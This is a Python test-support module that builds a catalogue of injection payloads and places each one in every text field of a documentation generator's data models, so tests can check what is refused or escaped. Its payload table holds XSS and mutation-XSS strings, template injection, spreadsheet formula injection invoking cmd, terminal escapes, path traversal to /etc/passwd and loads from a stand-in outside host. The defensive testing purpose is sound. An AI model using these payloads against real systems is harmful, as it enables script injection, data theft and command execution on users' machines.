"""Texts that try to act, and a catalogue that holds each of them in every text field of every model."""

import json
import re
from collections import defaultdict
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from enum import Enum
from pathlib import Path
from types import UnionType
from typing import Annotated, Any, Union, get_args, get_origin

from pydantic import BaseModel, RootModel

from generator.checks.runner import load_catalog
from generator.model.entries import Article, Code, Entry, Procedure, Product, Reply, Section, Setting
from generator.model.paths import Step
from generator.model.types import Loc
from generator.problem import CatalogError, Problem
from generator.sources.text import HIDDEN_CHARACTERS

Data = Any
"""What JSON holds, or an annotation."""
OUT = "http://outside.example"
"""Nothing answers there; a test notes who asks."""
_ESCAPE, _LINE, _TURN = "\x1b", "\u2028", "\u202e"

_TEXTS = {
    "script": "<script>HIT</script>",
    "script-from-elsewhere": "<script src=OUT/a.js></script>",
    "script-module": "<script type=module>HIT</script>",
    "out-of-title": "</title></head><script>HIT</script>",
    "out-of-script": "</script><script>HIT</script>",
    "out-of-quotes": '"><script>HIT</script>',
    "out-of-single-quotes": "'><script>HIT</script>",
    "out-of-raw-text": "</textarea></pre></code></noscript></template></style></xmp><script>HIT</script>",
    "out-of-json": '\\"};HIT;//</script><script>HIT</script>',
    "image-error": "<img src=x: onerror=HIT>",
    "attribute": '" onmouseover="HIT" onfocus="HIT" autofocus x="',
    "attribute-single": "' onmouseover='HIT' onfocus='HIT' autofocus x='",
    "svg-load": "<svg onload=HIT>",
    "svg-script": "<svg><script>HIT</script></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:HIT /><text y=20>x</text></a></svg>",
    "svg-image": "<svg><image href=OUT/i.png /><use href=OUT/u.svg#x /><feImage href=OUT/f.png /></svg>",
    "svg-foreign": '<svg><foreignObject><iframe srcdoc="<script>parent.HIT</script>"></iframe></foreignObject></svg>',
    "math-link": "<math><maction actiontype=statusline xlink:href=javascript:HIT>x</maction></math>",
    "mutation-mglyph": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: '
    'onerror=HIT&gt;">',
    "mutation-style": '<svg></p><style><a id="</style><img src=x: onerror=HIT>">',
    "mutation-noscript": '<noscript><p title="</noscript><img src=x: onerror=HIT>">',
    "mutation-form": "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=HIT>",
    "link-script": "<a href=javascript:HIT>x</a>",
    "link-script-tab": '<a href="jav&#x09;ascript:HIT">x</a>',
    "prose-link-script": "[x](javascript:HIT)",
    "prose-link-data": "[x](data:text/html,<script>HIT</script>)",
    "prose-link-quotes": '[<img src=x: onerror=HIT>](https://inside.example/"onmouseover="HIT)',
    "prose-reference": "[[javascript:HIT]]",
    "prose-label": "[[400|<img src=x: onerror=HIT>]] [[value:ip|<svg onload=HIT>]]",
    "prose-code": "`<script>HIT</script>` **<img src=x: onerror=HIT>** *<svg onload=HIT>*",
    "template-value": "{{ 7*191 }} {{ config }} {{ self }}",
    "template-block": "{% for x in range(3) %}HIT{% endfor %}{% include 'base.html' %}{# x #}",
    "template-browser": "{{constructor.constructor('HIT')()}} ${HIT} <%= HIT %>",
    "markdown": "# H ![x](OUT/i.png) [x]: javascript:HIT <b>_x_</b> <javascript:HIT>",
    "snippet": '--8<-- "mkdocs.yml" ;--8<-- "mkdocs.yml"',
    "admonition": '!!! danger "<img src=x: onerror=HIT>"',
    "attribute-list": "x {: onclick=HIT style=color:red #__config }",
    "directive": "::: generator.cli.main",
    "icon": ":material-skull: :smile: [TOC]",
    "entities": "&lt;script&gt;HIT&lt;/script&gt; &#60;img src=x: onerror=HIT&#62; &quot;&gt;&amp;lt;",
    "comment": "<!-- x --!><script>HIT</script> -->",
    "comment-open": "<!-- <b>",
    "cdata": "<![CDATA[ <script>HIT</script> ]]><script>HIT</script>",
    "tag-open": "<img src='OUT/dangling?",
    "script-open": "<script>HIT//",
    "quote-open": '<a title="',
    "style": '<style>@import "OUT/s.css";*{background:url(OUT/b.png)}</style>',
    "style-attribute": '<div style="background:url(OUT/b.png);position:fixed;inset:0">x</div>',
    "style-link": "<link rel=stylesheet href=OUT/l.css><link rel=prefetch href=OUT/p>"
    "<link rel=preload as=image href=OUT/q>",
    "base": "<base href=OUT/>",
    "refresh": '<meta http-equiv=refresh content="0;url=OUT/r">',
    "form": "<form action=OUT/f><input name=a onfocus=HIT autofocus><button formaction=OUT/g>x</button></form>",
    "frame": '<iframe src=OUT/i></iframe><iframe srcdoc="<script>parent.HIT</script>"></iframe>',
    "frame-script": '<iframe src="javascript:parent.HIT"></iframe>',
    "object": "<object data=OUT/o></object><embed src=OUT/e>",
    "media": '<img src=OUT/i.png srcset="OUT/2.png 2x"><video poster=OUT/p src=OUT/v></video><audio src=OUT/a></audio>',
    "toggle": "<details open ontoggle=HIT>x</details>",
    "clobber": '<b id=__config>{"base":"OUT","search":"OUT/w.js"}</b><a id=smtpReplies></a><img name=getElementById>',
    "theme-parts": "<div class=md-overlay data-md-component=search>x</div>",
    "formula": '=HYPERLINK("OUT/x","x")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-minus": "-1+1",
    "terminal": f"{_ESCAPE}[2J{_ESCAPE}]0;HIT\x07",
    "line-separator": f"x{_LINE}HIT",
    "turned": f"x{_TURN}tpircs",
    "prototype": "__proto__ constructor prototype toString hasOwnProperty",
    "address-script": "javascript:HIT",
    "address-data": "data:text/html,<script>HIT</script>",
    "address-outside": "//outside.example/x",
    "address-quotes": 'https://inside.example/"onmouseover="HIT"><script>HIT</script>',
    "path-up": "../../../../etc/passwd",
}
PAYLOADS: Mapping[str, str] = {
    name: text.replace("HIT", f"hit({number})").replace("OUT", OUT)
    for number, (name, text) in enumerate(_TEXTS.items())
}
"""Each text by its name; ``hit(17)`` in it tells the test which one ran."""

POLYGLOT = "'\"></title></script></textarea><script>hit(99)</script><img src=x: onerror=hit(99)>{{ 7*191 }}"
"""For the product, of which there is but one."""

Where = tuple[str, str]
"""A text field: the model's name and the key."""


def text_fields(model: type[BaseModel]) -> Iterator[Where]:
    """Yield every text field of a model and of the models in it."""
    for _, where in _fill(model).leaves():
        yield where


@dataclass(frozen=True)
class Leaf:
    """A text, before it is known."""

    where: Where


@dataclass(frozen=True)
class Tree:
    """An example of an entry with a leaf for every text."""

    data: Data

    def leaves(self) -> Iterator[tuple[Loc, Where]]:
        """Yield the way to every text, and which field it is."""
        found: list[tuple[Loc, Where]] = []
        self.filled(lambda loc, where: str(found.append((loc, where))))
        yield from found

    def filled(self, text: Callable[[Loc, Where], str], start: Loc = ()) -> Data:
        """Return the example with a text for each leaf."""
        return _filled(self.data, text, start)


def _filled(data: Data, text: Callable[[Loc, Where], str], loc: Loc) -> Data:
    if isinstance(data, dict):
        return {key: _filled(inner, text, (*loc, key)) for key, inner in data.items()}
    if isinstance(data, list):
        return [_filled(inner, text, (*loc, index)) for index, inner in enumerate(data)]
    return text(loc, data.where) if isinstance(data, Leaf) else data


def _fill(model: type[BaseModel]) -> Tree:
    return Tree(_example(model, (model.__name__, "")))


def _example(annotation: Data, where: Where) -> Data:
    origin, arguments = get_origin(annotation), get_args(annotation)
    if origin in (Annotated, Union, UnionType):
        return _example(next(one for one in arguments if one is not type(None)), where)
    if origin is tuple:
        return [_example(option, where) for option in _options(arguments[0])]
    if annotation is str or issubclass(annotation, RootModel):
        return Leaf(where)
    return next(iter(annotation)).value if issubclass(annotation, Enum) else _group(annotation, where)


def _group(model: type[BaseModel], where: Where) -> Data:
    if model is Step:
        return {"chapter" if where[0] == "Section" else "tab": Leaf(("Step", "label"))}
    return {
        field.alias or name: _example(field.annotation, (model.__name__, field.alias or name))
        for name, field in model.model_fields.items()
        if not issubclass(model, Entry) or name not in ("id", "file", "loc")
    }


def _options(annotation: Data) -> list[Data]:
    """Return what an item of a list may be, each kind once."""
    if get_origin(annotation) is Annotated:
        return _options(get_args(annotation)[0])
    return list(get_args(annotation)) if get_origin(annotation) in (Union, UnionType) else [annotation]


@dataclass
class HostileCatalog:
    """A catalogue of texts that try to act, and what ``check`` took and what it refused."""

    codes: Path
    names: tuple[str, ...]
    """The payloads it holds."""
    taken: set[tuple[Where, str]] = field(default_factory=set)
    refused: dict[tuple[Where, str], Problem] = field(default_factory=dict)


def address_of(kind: str, name: str) -> str:
    """Return the address of the page of a kind whose texts are one payload."""
    number = list(PAYLOADS).index(name)
    code = _code(number)
    return {
        "reply": f"codes/{code}/p/",
        "code": f"codes/{code}/",
        "setting": f"settings/g/s{number}/",
        "article": f"articles/A{number}/",
        "procedure": f"procedures/p{number}/",
    }[kind]


KINDS = ("reply", "code", "setting", "article", "procedure")


def _code(number: int) -> str:
    return str(400 + number % 60 + number // 60 * 100)


def _harmless(where: Where, number: int) -> str:
    """Return what stands in a field that refuses a payload."""
    wording = f"only{number} reply{number} text{number}"
    return {
        ("Reply", "feature"): f"g/s{number}",
        ("Reply", "settings"): f"g/s{number}",
        ("Reply", "related"): "400/p",
        ("Withdrawal", "successor"): "400/p",
        ("Reply", "debug"): f"ME-E{number:04}",
        ("Reply", "aliases"): f"400/old-{number}",
        ("Wording", "text"): wording,
        ("Sample", "line"): f"{_code(number)} {wording}",
        ("ProcedureUse", "procedure"): f"p{number}",
        ("ArticleUse", "id"): f"A{number}",
        ("Code", "rfc"): "5321#4.2.2",
        ("ManualUse", "section"): f"g/m{number}",
        ("Section", "url"): "https://inside.example/",
        ("Procedure", "settings"): f"g/s{number}",
        ("Product", "article_url"): "https://inside.example/kb?ID={id}",
        ("Product", "origin"): "A0",
        ("Product", "editions"): "An edition.",
        ("SideMarks", "in"): "SMTP-IN",
        ("SideMarks", "out"): "SMTP-OU",
    }.get(where, "A text.")


def _hostile(where: Where, number: int, payload: str) -> str:
    """Return the payload as it stands in a field; a wording needs words of its own, a sample its wording."""
    wording = f"{payload} only{number} reply{number} text{number}"
    return {("Wording", "text"): wording, ("Sample", "line"): f"{_code(number)} {wording}"}.get(where, payload)


@dataclass
class _File:
    """A file of the catalogue on its way: trees under keys, and what was refused of them."""

    path: Path
    entries: list[tuple[Loc, int, str, Tree]]
    harmless: set[Loc] = field(default_factory=set)

    def write(self) -> None:
        """Write it as JSON, which is YAML, each text on a line of its own."""
        self.path.parent.mkdir(parents=True, exist_ok=True)
        self.path.write_text(json.dumps(self._filled(self._text), indent=1), "utf-8")

    def _text(self, loc: Loc, where: Where, number: int, payload: str) -> str:
        return _harmless(where, number) if loc in self.harmless else _hostile(where, number, payload)

    def _filled(self, text: Callable[[Loc, Where, int, str], str]) -> Data:
        data: Data = {}
        for start, number, payload, tree in self.entries:
            filled = tree.filled(lambda loc, where, of=(number, payload): text(loc, where, *of), start)
            data = {**data, start[0]: filled} if start else filled
        return data

    def leaves(self) -> Iterator[tuple[Loc, Where, str]]:
        for start, _, payload, tree in self.entries:
            for loc, where in tree.leaves():
                yield (*start, *loc), where, payload

    def at(self, problem: Problem) -> Loc:
        """Return the text that a problem is about: the one on its line, or the next one below it."""
        marks = {f"@{index}@": loc for index, (loc, _, _) in enumerate(self.leaves())}
        names = {loc: mark for mark, loc in marks.items()}
        lines = json.dumps(self._filled(lambda loc, *_: names[loc]), indent=1).split("\n")
        below = "\n".join(lines[problem.position.line - 1 :])
        return marks[re.findall("@[0-9]+@", below)[0]]


def write_catalog(folder: Path, names: tuple[str, ...] = tuple(PAYLOADS), product: str = POLYGLOT) -> list[_File]:
    """Write a catalogue of these payloads, each in every text field of an entry of each kind."""
    numbered = [(list(PAYLOADS).index(name), PAYLOADS[name]) for name in names]
    trees = {model: _fill(model) for model in (Reply, Code, Setting, Article, Section, Procedure, Product)}

    told = (payload for _, payload in numbered if payload != product and not HIDDEN_CHARACTERS.search(payload))
    editions = ["A text.", *told]
    trees[Product].data["editions"] += editions  # a setting's editions are among them

    def single(name: str, model: type[Entry], number: int, payload: str) -> _File:
        return _File(folder / name, [((), number, payload, trees[model])])

    files = [single("product.yml", Product, 0, product)]
    for number, payload in numbered:
        files += [
            single(f"{_code(number)}/p.yml", Reply, number, payload),
            single(f"{_code(number)}/code.yml", Code, number, payload),
            single(f"settings/g/s{number}.yml", Setting, number, payload),
            single(f"procedures/p{number}.yml", Procedure, number, payload),
        ]
    for name, model, key in (("articles", Article, "A{}"), ("manual", Section, "g/m{}")):
        entries = [((key.format(number),), number, payload, trees[model]) for number, payload in numbered]
        files.append(_File(folder / f"{name}.yml", entries))
    for file in files:
        file.write()
    return files


def hostile_catalog(folder: Path, names: tuple[str, ...] = tuple(PAYLOADS), product: str = POLYGLOT) -> HostileCatalog:
    """Write a catalogue of payloads that ``check`` takes: what it refuses is noted, and is harmless instead."""
    files = {
        f"{folder.name}/{file.path.relative_to(folder).as_posix()}": file
        for file in write_catalog(folder, names, product)
    }
    hostile = HostileCatalog(folder, names)
    told = dict(zip(PAYLOADS.values(), PAYLOADS, strict=True)) | {product: "polyglot"}
    for _ in range(9):
        try:
            load_catalog(folder)
        except CatalogError as error:
            harmless: dict[str, set[Loc]] = defaultdict(set)
            for problem in error.problems:
                file = files[problem.path]
                places = {loc: (where, told[payload]) for loc, where, payload in file.leaves()}
                loc = file.at(problem)
                assert loc not in file.harmless, f"a problem with no payload at its place: {problem}"
                hostile.refused[places[loc]] = problem
                harmless[problem.path].add(loc)
            for path, locs in harmless.items():
                files[path].harmless |= locs
                files[path].write()
        else:
            break
    else:
        raise AssertionError("the catalogue never became one that check takes")
    for file in files.values():
        hostile.taken |= {(where, told[payload]) for loc, where, payload in file.leaves() if loc not in file.harmless}
    return hostile
